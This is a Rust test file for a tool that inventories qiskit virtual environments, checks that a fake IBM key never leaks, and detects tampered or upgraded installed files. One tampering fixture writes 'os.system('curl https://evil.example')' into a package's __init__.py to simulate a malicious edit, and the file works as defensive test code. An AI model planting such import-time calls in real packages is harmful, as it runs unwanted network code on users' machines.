//! `qwarden inventory` and `inventory diff`: a fake home with a venv holding a qiskit
//! `.dist-info` and a saved IBM account; the inventory lists the venv, its qiskit and its checked
//! files, names the account file without ever holding its key, and the drift after an installed
//! file is modified or qiskit is upgraded in place is reported with exit code 6.

use std::path::{Path, PathBuf};

use base64::Engine as _;
use sha2::{Digest as _, Sha256};

use crate::support::Env;

/// A clearly fake IBM Cloud API key in the saved account.
const FAKE_KEY: &str = "Qw4rd3nInv3nt0ryF4k3K3y_Rk8vN2pL5x-wYtUbsEhG";

fn write(path: &Path, bytes: &[u8]) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, bytes).unwrap();
}

/// Installs qiskit `version` into the venv's site-packages with a matching `RECORD`.
fn install_qiskit(site: &Path, version: &str) {
    let module = format!("__version__ = \"{version}\"\n");
    write(&site.join("qiskit/__init__.py"), module.as_bytes());
    let dist_info = format!("qiskit-{version}.dist-info");
    let metadata = format!("Metadata-Version: 2.4\nName: qiskit\nVersion: {version}\n\nAn SDK.\n");
    write(&site.join(&dist_info).join("METADATA"), metadata.as_bytes());
    let hash =
        |b: &[u8]| base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(b));
    let record = format!(
        "qiskit/__init__.py,sha256={},{}\n{dist_info}/METADATA,sha256={},{}\n{dist_info}/RECORD,,\nqiskit/__pycache__/__init__.cpython-311.pyc,,\n",
        hash(module.as_bytes()),
        module.len(),
        hash(metadata.as_bytes()),
        metadata.len()
    );
    write(&site.join(&dist_info).join("RECORD"), record.as_bytes());
}

/// A venv at `~/venvs/quantum` with qiskit 1.2.0, and a saved IBM account holding [`FAKE_KEY`].
/// Returns the venv and its site-packages.
fn workstation(env: &Env) -> (PathBuf, PathBuf) {
    let venv = env.home.join("venvs/quantum");
    write(
        &venv.join("pyvenv.cfg"),
        b"home = /usr/bin\ninclude-system-site-packages = false\nversion = 3.11.7\n",
    );
    let site = venv.join("lib/python3.11/site-packages");
    install_qiskit(&site, "1.2.0");
    write(
        &env.home.join(".qiskit/qiskit-ibm.json"),
        format!(
            "{{\"default-ibm-cloud\": {{\"channel\": \"ibm_cloud\", \"token\": \"{FAKE_KEY}\"}}}}"
        )
        .as_bytes(),
    );
    (venv, site)
}

/// `qwarden inventory --write FILE`: checks the printed digest is the file's, and returns it.
fn take(env: &Env, name: &str) -> (PathBuf, String) {
    let out = env.scratch(name);
    let run = env.qwarden(["inventory", "--write"]).arg(&out).run();
    run.success();
    let bytes = std::fs::read(&out).unwrap();
    let digest = format!("{:x}", Sha256::digest(&bytes));
    assert_eq!(run.stdout, format!("{digest}  {}\n", out.display()));
    (out, digest)
}

qwtest!(inventory_write_lists_the_venv_and_never_the_key, |env| {
    let (venv, _) = workstation(&env);
    let (out, _) = take(&env, "inventory.json");
    let text = std::fs::read_to_string(&out).unwrap();
    assert!(
        !text.contains(FAKE_KEY),
        "the key leaked into the inventory"
    );
    assert!(
        !text.contains("Qw4rd3n"),
        "part of the key leaked into the inventory"
    );
    let inv: serde_json::Value = serde_json::from_str(&text).unwrap();
    assert_eq!(inv["format"], "qwarden-inventory/v1");
    // No profile: the built-in one, whose tier is sandbox.
    assert_eq!(inv["tier"], "sandbox");
    let envs = inv["python_environments"].as_array().unwrap();
    let ours = envs
        .iter()
        .find(|e| e["path"] == venv.to_str().unwrap())
        .unwrap_or_else(|| panic!("the venv is not in {envs:#?}"));
    assert_eq!(ours["kind"], "venv");
    assert_eq!(ours["python"], "3.11.7");
    let qiskit = &ours["quantum_packages"][0];
    assert_eq!(
        (&qiskit["name"], &qiskit["version"]),
        (&"qiskit".into(), &"1.2.0".into())
    );
    assert_eq!(qiskit["files"]["ok"], 2);
    assert_eq!(qiskit["files"]["skipped"], 2);
    assert_eq!(qiskit["files"]["modified"], 0);
    let configs = inv["provider_config_files"].as_array().unwrap();
    let saved = env.home.join(".qiskit/qiskit-ibm.json");
    assert!(
        configs.contains(&serde_json::json!({"provider": "ibm", "path": saved.to_str().unwrap()})),
        "{configs:#?}"
    );
    // Canonical JSON: one line, sorted keys; the same state gives the same bytes.
    assert!(text.starts_with("{\"cpu\":") && !text.contains('\n'));
    let (again, _) = take(&env, "again.json");
    assert_eq!(std::fs::read_to_string(again).unwrap(), text);
});

qwtest!(inventory_diff_reports_a_modified_installed_file, |env| {
    let (venv, site) = workstation(&env);
    let (before, before_digest) = take(&env, "before.json");
    env.qwarden(["inventory", "diff"])
        .arg(&before)
        .arg(&before)
        .run()
        .success()
        .stdout_has("no drift");
    // Someone edits qiskit in place.
    write(
        &site.join("qiskit/__init__.py"),
        b"import os; os.system('curl https://evil.example')\n",
    );
    let (after, after_digest) = take(&env, "after.json");
    assert_ne!(before_digest, after_digest);
    let run = env
        .qwarden(["inventory", "diff"])
        .arg(&before)
        .arg(&after)
        .run();
    run.code(6)
        .stdout_has(&format!("old  {before_digest}  {}", before.display()))
        .stdout_has(&format!("new  {after_digest}  {}", after.display()))
        .stdout_has("1 change(s):")
        .stdout_has(&format!(
            "installed file modified: qiskit/__init__.py (qiskit in {})",
            venv.display()
        ));
    let report = env
        .qwarden(["inventory", "diff", "--json"])
        .arg(&before)
        .arg(&after)
        .run();
    report.code(6);
    let json = report.json();
    assert_eq!(json["drift"], true);
    assert_eq!(json["old"]["sha256"], before_digest.as_str());
    assert_eq!(
        json["changes"],
        serde_json::json!([{
            "change": "file_modified",
            "env": venv.to_str().unwrap(),
            "package": "qiskit",
            "path": "qiskit/__init__.py",
        }])
    );
    // The summary of the new state points at the file too.
    env.qwarden(["inventory"])
        .run()
        .success()
        .stdout_has("1 ok, 1 modified")
        .stdout_has("installed files that do not match their RECORD:")
        .stdout_has(&format!(
            "  modified: qiskit/__init__.py (qiskit in {})",
            venv.display()
        ))
        .stdout_lacks(FAKE_KEY);
});

qwtest!(inventory_diff_reports_an_sdk_upgraded_in_place, |env| {
    let (venv, site) = workstation(&env);
    let (before, _) = take(&env, "before.json");
    std::fs::remove_dir_all(site.join("qiskit-1.2.0.dist-info")).unwrap();
    install_qiskit(&site, "2.0.1");
    let (after, _) = take(&env, "after.json");
    env.qwarden(["inventory", "diff"])
        .arg(&before)
        .arg(&after)
        .run()
        .code(6)
        .stdout_has(&format!(
            "quantum package changed in place: qiskit 1.2.0 -> 2.0.1 in {}",
            venv.display()
        ));
});

qwtest!(inventory_json_summary_and_profile_tier, |env| {
    let (venv, _) = workstation(&env);
    env.qwarden(["init", "--tier", "staging"]).run().success();
    let run = env.qwarden(["inventory", "--json"]).run();
    run.success().stdout_lacks(FAKE_KEY);
    let inv = run.json();
    assert_eq!(inv["tier"], "staging");
    // `--json` output reads back for `diff`.
    let file = env.scratch("pretty.json");
    std::fs::write(&file, &run.stdout).unwrap();
    env.qwarden(["inventory", "diff"])
        .arg(&file)
        .arg(&file)
        .run()
        .success();
    env.qwarden(["inventory"])
        .run()
        .success()
        .stdout_has("tier      staging")
        .stdout_has(venv.to_str().unwrap())
        .stdout_has("qiskit")
        .stdout_has("provider configuration files (present; never read):")
        .stdout_lacks(FAKE_KEY);
    // `--root` replaces the defaults; depth 0 looks at the root itself only.
    let only = env
        .qwarden(["inventory", "--json", "--depth", "0", "--root"])
        .arg(&env.project)
        .run();
    let envs = only.json()["python_environments"].clone();
    assert!(
        !envs
            .as_array()
            .unwrap()
            .iter()
            .any(|e| e["path"] == venv.to_str().unwrap()),
        "{envs:#?}"
    );
});

qwtest!(inventory_refuses_unreadable_inventories, |env| {
    let missing = env.scratch("missing.json");
    env.qwarden(["inventory", "diff"])
        .arg(&missing)
        .arg(&missing)
        .run()
        .code(3)
        .stderr_has(&format!("cannot read `{}`", missing.display()));
    let junk = env.scratch("junk.json");
    std::fs::write(&junk, "{\"format\": \"qwarden-inventory/v1\", \"tier\": 3}").unwrap();
    env.qwarden(["inventory", "diff"])
        .arg(&junk)
        .arg(&junk)
        .run()
        .code(3)
        .stderr_has(&format!("`{}` is not a qwarden inventory", junk.display()))
        .stderr_has("hint: make one with `qwarden inventory --write FILE`");
    let other = env.scratch("other.json");
    std::fs::write(&other, "{\"format\": \"something-else\"}").unwrap();
    env.qwarden(["inventory", "diff"])
        .arg(&other)
        .arg(&junk)
        .run()
        .code(3)
        .stderr_has("its format is `something-else`");
    // A missing directory is made; one that cannot be (a file is in the way) is refused.
    let written = env.scratch("new/dir/inv.json");
    env.qwarden(["inventory", "--write"])
        .arg(&written)
        .run()
        .success();
    assert!(written.exists());
    let blocker = env.scratch("a-file");
    std::fs::write(&blocker, "not a directory").unwrap();
    env.qwarden(["inventory", "--write"])
        .arg(blocker.join("inv.json"))
        .run()
        .code(3)
        .stderr_has(&format!("cannot create `{}`", blocker.display()));
});
